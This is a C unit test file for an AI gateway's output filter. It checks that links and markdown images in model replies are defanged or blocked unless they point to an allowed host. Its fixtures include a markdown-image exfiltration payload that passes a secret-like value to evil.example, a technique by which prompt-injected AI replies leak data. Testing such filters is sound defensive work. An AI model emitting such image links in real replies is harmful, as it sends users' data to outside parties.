/* Links through whole transactions, whole and streamed, in pieces of any size: what policy does not
 * allow is rewritten or ends the reply. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "tx_house.h"

static const char links_yaml[] = BASE "agent: {hosts: [good.example]}\n";
static const char block_yaml[] =
    BASE "agent: {hosts: [good.example], links: defang, images: block}\n";

static struct house strict, plain, blocking;

static int open_all(void **state) {
    (void)state;
    return open_house(&strict, links_yaml, NULL, 0) && open_house(&plain, BASE, NULL, 0) &&
                   open_house(&blocking, block_yaml, NULL, 0)
               ? 0
               : -1;
}

static int close_all(void **state) {
    (void)state;
    close_house(&strict);
    close_house(&plain);
    close_house(&blocking);
    return 0;
}

static const struct {
    const char *text, *says; /* NULL: as it came */
} links[] = {
    {"see https://good.example/a and more", NULL},
    {"![x](https://evil.example/?q=" BAD ")", "![x](hxxps[:]//evil[.]example/?q="},
    {"go to https://evil.example/a now", "go to hxxps[:]//evil[.]example/a now"},
    {"<img src=//evil.example/x>", "<img src=hxxp[:]//evil[.]example/x>"},
};

static void put_text(struct bz_buf *b, bool stream, const char *text, size_t piece) {
    struct bz_buf mem;
    bz_buf_init(&mem, 1 << 16);
    if (!stream) {
        bz_buf_printf(b,
                      "{\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":"
                      "\"%.*s\"},\"finish_reason\":\"stop\"}]}",
                      E(escaped(&mem, bz_view_str(text))));
    } else {
        for (size_t at = 0; at < strlen(text); at += piece)
            SSE("{\"choices\":[{\"index\":0,\"delta\":{\"content\":\"%.*s\"},\"finish_reason\":"
                "null}]}",
                E(escaped(&mem, bz_view_sub(bz_view_str(text), at, piece))));
        SSE("{\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}");
        SSE("[DONE]");
    }
    bz_buf_free(&mem);
}

/* What a client puts together of a stream's content. */
static void heard(struct bz_view out, struct bz_buf *text) {
    for (size_t at = 0; at < out.n;) {
        const uint8_t *nl = memchr(out.p + at, '\n', out.n - at);
        size_t n = nl == NULL ? out.n - at : (size_t)(nl - out.p) - at;
        struct bz_view line = bz_view_sub(out, at, n);
        struct bz_arena ar;
        struct bz_json *v = NULL;
        bz_arena_init(&ar, bz_alloc_heap, 1 << 20, NULL, 0);
        at += n + 1;
        if (bz_view_starts(line, BZ_V("data: {")) &&
            bz_json_parse(bz_view_sub(line, 6, n), NULL, &ar, &v, NULL) == BZ_OK) {
            const struct bz_json *c = bz_json_get(v, BZ_V("choices"));
            c = c != NULL ? c->first : NULL;
            bz_buf_put(text,
                       bz_json_str(bz_json_get(bz_json_get(c, BZ_V("delta")), BZ_V("content"))));
        }
        bz_arena_free(&ar);
    }
}

static void links_are_rewritten(void **state) {
    (void)state;
    for (size_t i = 0; i < N(links); i++) {
        for (size_t piece = 0; piece <= strlen(links[i].text); piece++) {
            struct asked q = {.form = F_CHAT, .stream = piece > 0};
            struct run r;
            struct bz_buf b, text;
            bz_buf_init(&b, 1 << 16);
            bz_buf_init(&text, 1 << 16);
            ask(&r, &strict, &q);
            put_text(&b, piece > 0, links[i].text, piece);
            answer(&r, piece > 0, F_CHAT, bz_buf_view(&b), 17);
            if (piece > 0)
                heard(got(&r), &text);
            else
                bz_buf_put(&text, got(&r));
            const char *want = links[i].says == NULL ? links[i].text : links[i].says;
            if (r.st != BZ_OK || !gw_contains(bz_buf_view(&text), want) ||
                gw_contains(bz_buf_view(&text), "//evil.example"))
                fail_msg("%s, pieces of %zu: %.*s", links[i].text, piece, E(bz_buf_view(&text)));
            bz_buf_free(&b);
            bz_buf_free(&text);
            done(&r);
        }
    }
}

/* With nothing configured links are as they came, until untrusted text is in the conversation. */
static void links_matter_where_others_wrote(void **state) {
    (void)state;
    for (int context = C_NONE; context <= C_UNTRUSTED; context += C_UNTRUSTED) {
        for (int stream = 0; stream < 2; stream++) {
            struct asked q = {
                .form = F_CHAT, .stream = stream != 0, .context = (enum context)context};
            struct run r;
            struct bz_buf b;
            bz_buf_init(&b, 1 << 16);
            ask(&r, &plain, &q);
            put_text(&b, stream != 0, "![x](https://evil.example/?q=1)", 9);
            answer(&r, stream != 0, F_CHAT, bz_buf_view(&b), 0);
            assert_int_equal(gw_contains(got(&r), "[.]"), context == C_UNTRUSTED);
            bz_buf_free(&b);
            done(&r);
        }
    }
}

static void images_may_block(void **state) {
    static const char *const texts[] = {"![x](https://evil.example/?q=" BAD ")",
                                        "![x](https://good.example/x) and https://evil.example"};
    (void)state;
    for (size_t i = 0; i < 2; i++) {
        for (int stream = 0; stream < 2; stream++) {
            struct asked q = {.form = F_CHAT, .stream = stream != 0};
            struct run r;
            struct bz_buf b;
            bz_buf_init(&b, 1 << 16);
            ask(&r, &blocking, &q);
            put_text(&b, stream != 0, texts[i], 5);
            answer(&r, stream != 0, F_CHAT, bz_buf_view(&b), 0);
            assert_int_equal(gw_contains(got(&r), "link_blocked"), i == 0);
            assert_false(gw_contains(got(&r), BAD));
            bz_buf_free(&b);
            done(&r);
        }
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(links_are_rewritten),
        cmocka_unit_test(links_matter_where_others_wrote),
        cmocka_unit_test(images_may_block),
    };
    return cmocka_run_group_tests(tests, open_all, close_all);
}
